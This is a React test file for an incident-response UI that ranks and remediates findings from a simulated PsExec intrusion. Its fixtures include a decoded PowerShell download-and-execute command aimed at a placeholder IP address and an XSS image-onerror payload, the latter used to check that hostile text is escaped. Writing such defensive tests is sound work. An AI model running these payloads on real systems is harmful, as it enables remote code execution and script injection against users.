import { afterEach, describe, expect, it, vi } from "vitest";
import { cleanup, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import { BackendError } from "../../backend";
import { details, entity, fakeBackend, psexecInvestigation, WRITTEN_FILES } from "../../testing/fakeBackend";
import { KeyFindingsTab } from "./KeyFindingsTab";

afterEach(cleanup);

const show = (backend = fakeBackend(), d = psexecInvestigation()) => {
  const onChanged = vi.fn();
  render(<KeyFindingsTab backend={backend} d={d} focus={null} onChanged={onChanged} />);
  return { backend, onChanged };
};
const finding = (id: number) => document.querySelector(`[data-finding="${id}"]`) as HTMLElement;

describe("KeyFindingsTab", () => {
  it("ranks the culprit first and says what it is, why, and what is known of it", () => {
    show();
    const rows = [...screen.getByTestId("key-findings").children];
    expect(rows[0]?.getAttribute("data-finding")).toBe("101");
    const culprit = finding(101);
    expect(culprit.textContent).toContain("Service");
    expect(culprit.textContent).toContain("PSEXESVC");
    expect(culprit.textContent).toContain("on ws01");
    expect(within(culprit).getByLabelText("Facts").textContent).toBe(
      "binary: %SystemRoot%\\PSEXESVC.exestart type: demand startaccount: LocalSysteminstalled by: CONTOSO\\jdoe",
    );
    // The strongest reason first; the others on demand.
    expect(culprit.textContent).toContain("A service was installed from a remote admin session");
    expect(culprit.textContent).not.toContain("not signed by Microsoft");
    fireEvent.click(within(culprit).getByText("2 more reasons"));
    expect(culprit.textContent).toContain("not signed by Microsoft");
    // Its proposed action is decided right there, named after the target.
    expect(within(culprit).getByTestId("finding-decision").textContent).toContain("Remove service");
  });

  it("shows 37 files written by one process as one row, opened to its members, decided as one", async () => {
    const { backend, onChanged } = show();
    const groups = document.querySelectorAll("[data-finding-group]");
    expect(groups).toHaveLength(1);
    const group = groups[0] as HTMLElement;
    expect(group.textContent).toContain("37 files written by PSEXESVC.exe (4120)");
    // None of its members is a row of its own.
    expect(document.querySelector(`[data-finding="${WRITTEN_FILES[0]}"]`)).toBeNull();
    expect(group.querySelectorAll(".group-members > li")).toHaveLength(0);
    fireEvent.click(within(group).getByTestId("toggle-group"));
    expect(group.querySelectorAll(".group-members > li")).toHaveLength(37);
    expect(group.textContent).toContain("C:\\Windows\\Temp\\psx\\payload-37.dll");

    fireEvent.click(within(group).getByText("Approve all 37"));
    await waitFor(() => expect(backend.approve).toHaveBeenCalledWith(WRITTEN_FILES.map((_, i) => 210 + i), null));
    await waitFor(() => expect(onChanged).toHaveBeenCalled());
  });

  it("rejecting a group asks why, once for all", async () => {
    const { backend } = show();
    const group = document.querySelector("[data-finding-group]") as HTMLElement;
    fireEvent.click(within(group).getByText("Reject all…"));
    const confirm = within(group).getByTestId("confirm-reject") as HTMLButtonElement;
    expect(confirm.disabled).toBe(true);
    fireEvent.change(within(group).getByLabelText(/Why reject/), { target: { value: "our deployment tool" } });
    fireEvent.click(confirm);
    await waitFor(() => expect(backend.reject).toHaveBeenCalledWith(WRITTEN_FILES.map((_, i) => 210 + i), "our deployment tool"));
  });

  it("remediates a suspicious finding nothing was proposed for, after saying exactly what will happen", async () => {
    const { backend, onChanged } = show();
    const ps = finding(105);
    expect(backend.remediate).not.toHaveBeenCalled();
    fireEvent.click(within(ps).getByTestId("remediate"));
    expect(within(ps).getByTestId("remediate-confirm").textContent).toContain("Stop process powershell.exe (4312) on ws01 — decided by you now");
    expect(backend.remediate).not.toHaveBeenCalled();
    fireEvent.click(within(ps).getByTestId("confirm-remediate"));
    await waitFor(() => expect(backend.remediate).toHaveBeenCalledWith(7, [105]));
    expect((await within(ps).findByTestId("remediate-result")).textContent).toContain("Succeeded");
    expect(onChanged).toHaveBeenCalled();
  });

  it("shows why the engine refuses to remediate", async () => {
    const remediate = vi.fn(async () => {
      throw new BackendError({ code: "conflict", message: "Vigil does not act on this: the policy key belongs to Windows" });
    });
    show(fakeBackend({ remediate }));
    const value = finding(104);
    fireEvent.click(within(value).getByTestId("remediate"));
    expect(within(value).getByTestId("remediate-confirm").textContent).toContain(
      "Delete registry value HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware on ws01",
    );
    fireEvent.click(within(value).getByTestId("confirm-remediate"));
    expect((await within(value).findByTestId("remediate-refused")).textContent).toContain("the policy key belongs to Windows");
  });

  it("says plainly when Vigil will not act on a finding, and offers nothing to do", () => {
    show();
    const lsass = finding(106);
    expect(within(lsass).getByTestId("protected").textContent).toBe("Vigil will not act on this: lsass.exe is a process the OS cannot run without");
    expect(within(lsass).queryByTestId("remediate")).toBeNull();
    // A script has no action of its own: no button that could only fail.
    const script = finding(103);
    expect(within(script).queryByTestId("remediate")).toBeNull();
    expect(script.textContent).toContain("decoded: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')");
  });

  it("renders hostile facts and finding names as text", async () => {
    const hostile = "<img src=x onerror=window.__pwned=1>";
    const evil = entity({ id: 30, verdict: "suspicious", name: hostile, facts: [{ label: "<i>by</i>", value: hostile }], remediation_status: "none" });
    show(fakeBackend(), details({ key_findings: [evil], entities: [evil], actions: [], pending_actions: [] }));
    expect((await screen.findAllByText(hostile)).length).toBe(2);
    expect(screen.getByText("<i>by</i>:")).toBeTruthy();
    expect(document.querySelector("img")).toBeNull();
    expect(document.querySelector("i")).toBeNull();
  });
});
